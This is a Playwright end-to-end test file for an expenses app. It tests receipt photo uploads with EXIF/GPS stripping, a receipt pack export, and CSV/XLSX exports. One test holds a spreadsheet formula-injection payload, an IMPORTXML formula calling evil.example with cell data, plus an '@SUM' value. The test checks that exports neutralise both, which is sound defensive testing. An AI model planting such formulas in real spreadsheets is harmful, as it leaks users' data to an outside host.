import { readFile } from 'node:fs/promises';
import { type Download, expect, type Locator, type Page } from '@playwright/test';
import { Uint8ArrayReader, ZipReader } from '@zip.js/zip.js';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import sharp from 'sharp';
import { createReport, readReport } from '../../../e2e/calls.ts';
import { callWorkspace, readEntered } from '../../../e2e/hand.ts';
import { inspect } from '../../../e2e/inspection.ts';
import { test } from '../../../e2e/journey.ts';
import { startExpenses } from '../../../e2e/people.ts';
import { receiptPhoto } from '../../../e2e/receipt.ts';

const receiptOf = (buffer: Buffer) => ({ name: 'IMG_4058.jpg', mimeType: 'image/jpeg', buffer });

/** Drags a file from the desktop over part of the page and drops it. */
async function drop(page: Page, target: Locator, bytes: Buffer): Promise<void> {
  const transfer = await page.evaluateHandle((base64) => {
    const transfer = new DataTransfer();
    const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
    transfer.items.add(new File([bytes], 'IMG_4058.jpg', { type: 'image/jpeg' }));
    return transfer;
  }, bytes.toString('base64'));
  for (const type of ['dragover', 'drop']) await target.dispatchEvent(type, { dataTransfer: transfer });
}

/** The photo as it is stored in Drive, found by the link in its row. */
async function readStoredPhoto(page: Page, name: string): Promise<Buffer> {
  const address = await page.getByRole('link', { name, exact: true }).getAttribute('href');
  return await storedAt(page, address);
}

async function storedAt(page: Page, address: string | null): Promise<Buffer> {
  const [, id] = /\/file\/d\/([^/]+)/.exec(address ?? '') ?? [];
  return await (await callWorkspace(page, `/drive/v3/files/${id}?alt=media`)).body();
}

/** A whole report with three rows and two photos, saved as files. */
async function packed(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Export' }).click();
  await page.getByRole('menuitem', { name: 'Receipt pack: PDF and photos' }).click();
  const dialog = page.getByRole('dialog', { name: 'Receipt pack' });
  await expect(dialog.getByText('3 expenses, $27.00. 1 row has no receipt photo')).toBeVisible();
  const preview = dialog.getByRole('img', { name: 'The first page of the PDF' });
  await expect.poll(() => preview.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(636);
  await dialog.getByRole('checkbox', { name: 'Keep the PDF in Drive' }).check();
  await dialog.getByRole('checkbox', { name: 'ZIP of the photos' }).check();
  await dialog.getByRole('checkbox', { name: 'Rows as XLSX' }).check();
  await inspect(page, 'a receipt pack', 'expenses/PackDialog');
  const saved: Download[] = [];
  page.on('download', (download) => saved.push(download));
  await dialog.getByRole('button', { name: 'Make and download' }).click();
  await expect(
    dialog.getByText(/^Saved: Photos .+\.pdf, Photos .+ receipts\.zip, Photos .+\.xlsx$/),
  ).toBeVisible();
  await expect.poll(() => saved.length).toBe(3);
  const [pdf, zip] = await Promise.all(saved.map(async (download) => readFile(await download.path())));
  expect(pdf?.subarray(0, 5).toString()).toBe('%PDF-');
  await expect(dialog.getByText(/^Kept in Drive: Photos .+\.pdf\. Open it$/)).toBeVisible();
  const link = dialog.getByRole('link', { name: 'Open it' });
  expect((await storedAt(page, await link.getAttribute('href'))).equals(pdf ?? Buffer.alloc(0))).toBe(true);
  const names = (await new ZipReader(new Uint8ArrayReader(new Uint8Array(zip ?? []))).getEntries()).map(
    ({ filename }) => filename,
  );
  expect(names).toEqual(['2026-11-02 row 2 9.00 Hotel.jpg', '2026-11-02 row 3 9.00 Dinner.jpg']);
}

test('receipts come by file and by drop, upright and without the place they were taken at', async ({
  page,
}) => {
  await startExpenses(page);
  const entries = ['Hotel', 'Dinner', 'Taxi'].map((description) => ({ description, amount: 9 }));
  const report = await createReport(page, 'Photos', entries);
  await page.goto(`/?app=expenses&report=${report}`);
  const photo = await receiptPhoto();
  const dialog = page.getByRole('dialog', { name: 'Add Receipt Photo' });
  const upload = dialog.getByRole('button', { name: 'Upload Photo' });

  await page.getByRole('button', { name: 'Photo for Hotel' }).click();
  await expect(upload).toBeDisabled();
  const choosing = page.waitForEvent('filechooser');
  await dialog.getByRole('button', { name: 'Choose a file' }).click();
  await (await choosing).setFiles(receiptOf(photo));
  await expect(dialog.getByRole('img', { name: 'Preview of the photo' })).toBeVisible();
  await dialog.getByRole('button', { name: 'Remove' }).click();
  await expect(upload).toBeDisabled();
  await dialog.getByLabel('Choose a file').last().setInputFiles(receiptOf(photo));
  await upload.click();
  await expect(dialog).toBeHidden();

  await page.getByRole('button', { name: 'Photo for Dinner' }).click();
  await drop(page, dialog.getByRole('group', { name: 'Photo' }), photo);
  await dialog.getByLabel(/Keep the time and place/).check();
  await upload.click();
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('link', { name: 'IMG_4058-2.jpg' })).toBeVisible();
  const names = (await readEntered(page, report, 'F2:F4')).map(([name]) => name);
  expect(names).toEqual(['IMG_4058.jpg', 'IMG_4058-2.jpg']);

  const stored = await sharp(await readStoredPhoto(page, 'IMG_4058.jpg')).metadata();
  expect([stored.width, stored.height, stored.orientation ?? 1]).toEqual([800, 1100, 1]);
  expect(stored.exif?.includes('GPS') ?? false).toBe(false);
  expect(await readStoredPhoto(page, 'IMG_4058.jpg').then((bytes) => bytes.includes('Exif'))).toBe(false);
  const kept = await sharp(await readStoredPhoto(page, 'IMG_4058-2.jpg')).metadata();
  expect(kept.exif?.byteLength).toBeGreaterThan(0);

  await page.getByRole('button', { name: 'Show the receipt of Hotel' }).click();
  const preview = page.getByRole('dialog', { name: 'Receipt, row 2' });
  const image = preview.getByRole('img', { name: 'Receipt for Hotel' });
  await expect
    .poll(() =>
      image.evaluate((img) => img instanceof HTMLImageElement && img.naturalHeight > img.naturalWidth),
    )
    .toBe(true);
  const opened = page.waitForEvent('popup');
  await preview.getByRole('link', { name: 'Open photo' }).click();
  await expect((await opened).getByRole('img', { name: 'IMG_4058.jpg' })).toBeVisible();
  await page.keyboard.press('Escape');
  await packed(page);
});

test('a receipt is taken with the camera while the expense is added @phone', async ({ page, isMobile }) => {
  await startExpenses(page);
  const report = await createReport(page, 'On the way');
  await page.goto(`/?app=expenses&report=${report}`);
  await page.getByRole('button', { name: 'Add Expense' }).first().click();
  const dialog = page.getByRole('dialog', { name: 'Add Expense' });
  await dialog.getByLabel('Description').fill('Ferry');
  await dialog.getByLabel('Amount, USD').fill('14');
  const choosing = page.waitForEvent('filechooser');
  await dialog.getByRole('button', { name: 'Take a photo' }).click();
  const camera = await choosing;
  expect(await camera.element().getAttribute('capture')).toBe('environment');
  expect(await camera.element().getAttribute('accept')).toBe('image/*');
  await camera.setFiles(receiptOf(await receiptPhoto()));
  await expect(dialog.getByRole('img', { name: 'Preview of the photo' })).toBeVisible();
  await dialog.getByRole('button', { name: 'Add', exact: true }).click();
  await expect(dialog).toBeHidden();
  expect((await readReport(page, report)).rows).toMatchObject([
    { Description: 'Ferry', Photo: 'IMG_4058.jpg' },
  ]);
  if (isMobile) {
    await page.getByRole('button', { name: 'Show the receipt of Ferry' }).click();
    await expect(page.getByRole('img', { name: 'Receipt for Ferry' })).toBeVisible();
  }
});

const hostile = '=IMPORTXML("https://evil.example/?"&A1;"//a")';

/** Chooses an export and returns the file that the browser saved. */
async function exportAs(page: Page, format: 'CSV' | 'XLSX'): Promise<{ name: string; bytes: Buffer }> {
  await page.getByRole('button', { name: 'Export' }).click();
  const started = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: `Export as ${format}` }).click();
  const download = await started;
  return { name: download.suggestedFilename(), bytes: await readFile(await download.path()) };
}

test('a report is saved as CSV and XLSX, in which nothing runs @phone-only', async ({ page }) => {
  await startExpenses(page);
  const report = await createReport(page, 'Q4: "fair" São', [
    { description: hostile, amount: 1204.5, notes: 'two\nlines, "quoted"' },
    { description: 'Café Zürich', amount: -3, category: '@SUM(A1)' },
  ]);
  await page.goto(`/?app=expenses&report=${report}`);
  const csv = await exportAs(page, 'CSV');
  expect(csv.name).toBe('Q4 fair São.csv');
  const { data, errors } = Papa.parse<string[]>(csv.bytes.toString('utf8').replace(/^\ufeff/, ''), {
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  expect(data).toEqual([
    ['Date', 'Description', 'Category', 'Amount', 'Receipt', 'Photo', 'Notes'],
    ['2026-11-02', `'${hostile}`, '', '1204.5', '', '', 'two\nlines, "quoted"'],
    ['2026-11-02', 'Café Zürich', "'@SUM(A1)", '-3', '', '', ''],
  ]);

  const xlsx = await exportAs(page, 'XLSX');
  expect(xlsx.name).toBe('Q4 fair São.xlsx');
  const [sheet] = (await readXlsx(xlsx.bytes)).sheets;
  expect(sheet?.rows[1]?.slice(0, 4)).toEqual(['2026-11-02', hostile, '', 1204.5]);
  expect(sheet?.rows[2]?.slice(1, 4)).toEqual(['Café Zürich', '@SUM(A1)', -3]);
  const formulas = [...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined);
  expect(formulas).toEqual([]);
});
